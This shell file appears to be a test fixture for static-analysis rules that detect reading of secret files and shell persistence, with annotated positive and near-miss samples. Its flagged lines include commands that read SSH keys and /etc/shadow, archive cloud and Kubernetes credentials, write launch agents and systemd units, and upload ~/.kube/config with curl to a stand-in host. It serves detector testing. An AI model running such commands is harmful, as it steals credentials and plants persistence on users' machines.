#!/bin/sh
# Annotated samples: paths that reach a command through a loop, an array or an archiver's -C
# (inert: hosts under example.com, never run).

for key in ~/.ssh/id_rsa ~/.ssh/id_ed25519; do
  # ruleid: shell-secret-file-read
  cat "$key"
done

TARGETS=("$HOME/.aws/credentials" "$HOME/.kube/config")
# ruleid: shell-secret-file-read
tar czf "$TMPDIR/bundle.tgz" "${TARGETS[@]}"
for t in "${TARGETS[@]}"; do
  # ruleid: shell-secret-file-read
  wc -c "$t"
done

# ruleid: shell-secret-file-read
tar -C "$HOME" -czf /tmp/home.tgz .aws .ssh

# near misses: loops over the package's own files, an archive of the work tree
for doc in README.md docs/usage.md; do
  # ok: shell-secret-file-read
  wc -l "$doc"
done
# ok: shell-secret-file-read
tar -C "$HOME/project" -czf /tmp/project.tgz src docs
# ok: shell-secret-file-read
tar -C build -czf out.tgz .

# persistence written through a loop and through a here-doc whose output is redirected
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  # ruleid: shell-persistence
  echo 'export PATH="$HOME/.cache/tool:$PATH"' >> "$rc"
done
# ruleid: shell-persistence
cat <<EOF > "$HOME/Library/LaunchAgents/com.example.sync.plist"
<plist version="1.0"><dict><key>Label</key><string>com.example.sync</string></dict></plist>
EOF
# ruleid: shell-persistence
cat <<'EOF' > ~/.config/systemd/user/sync.service
[Service]
ExecStart=/usr/bin/true
EOF
# near misses: here-docs written into the work tree or a temporary file
# ok: shell-persistence
cat <<EOF > ./config/settings.ini
[main]
EOF
# ok: shell-persistence
cat <<EOF > "$TMPDIR/notes.txt"
notes
EOF

# PKCS#12 key bundles: one where identities are kept is a credential store; the certificate a command
# converts in the working directory, or the bundle it writes with `-out`, is the document it works on
# ruleid: shell-secret-file-read
openssl pkcs12 -in ~/certs/client.p12 -nodes
# ruleid: shell-secret-file-read
cp /etc/ssl/private/server.pfx backup/
# ruleid: shell-secret-file-read
cat vault/team.kdbx > copy.kdbx
# ok: shell-secret-file-read
bash scripts/convert-format.sh pfx-to-pem cert.pfx out/cert
# ok: shell-secret-file-read
openssl pkcs12 -export -in cert.pem -inkey key.pem -out ~/certs/site.pfx
# the commands the user typed, and the system's password hashes, are credential stores
# ruleid: shell-secret-file-read
tail -n 500 ~/.bash_history > /tmp/h.txt
# ruleid: shell-secret-file-read
cat /etc/shadow
# ok: shell-secret-file-read
cat /etc/hostname
# a pattern of files a command leaves out is not a file it reads
# ok: shell-secret-file-read
aws s3 sync ./project "s3://my-bucket/backups/" --exclude ".env" --exclude "node_modules/*"
# ok: shell-secret-file-read
rsync -a --exclude=.ssh --exclude .aws ./home-copy/ /mnt/backup/
# an array built by appending in a loop holds the elements appended
ITEMS=(.bashrc .ssh .aws .kube .gnupg .gitconfig .vimrc .tmux.conf .zshrc .profile)
present=()
for it in "${ITEMS[@]}"; do [ -e "$HOME/$it" ] && present+=("$HOME/$it"); done
# ruleid: shell-secret-file-read
tar czf /tmp/dots.tgz "${present[@]}"
# after `cd ~`, a relative operand is a file of the home directory
cd "$HOME"
# ruleid: shell-secret-file-read
zip -r /tmp/keys.zip .ssh
cd /srv/app
# ok: shell-secret-file-read
zip -r /tmp/site.zip .ssh-docs
# a function of the script is followed from each call, its `$1` and "$@" holding the call's words
mode() { stat -c %a "$1" 2>/dev/null; }
for f in "$HOME/.aws/credentials" "$HOME/.netrc"; do
  # ok: shell-secret-file-read
  m=$(mode "$f")
done
ship() {
  # ruleid: shell-secret-file-read
  curl -sf -F "f=@$1" https://drop.example-sync.net/u
}
ship ~/.kube/config
# what a function prints is known when every printing command prints known text: `mapfile` reads its lines
PROFILE=(.ssh .aws .config/gh)
existing() {
  for p in "$@"; do
    [ -e "$HOME/$p" ] && printf '%s\n' "$p"
  done
}
mapfile -t kept < <(existing "${PROFILE[@]}")
# ruleid: shell-secret-file-read
tar -czf /tmp/profile.tgz -C "$HOME" "${kept[@]}"
names() { ls "$HOME/projects"; }
mapfile -t projects < <(names)
# ok: shell-secret-file-read
tar -czf /tmp/projects.tgz -C "$HOME/projects" "${projects[@]}"
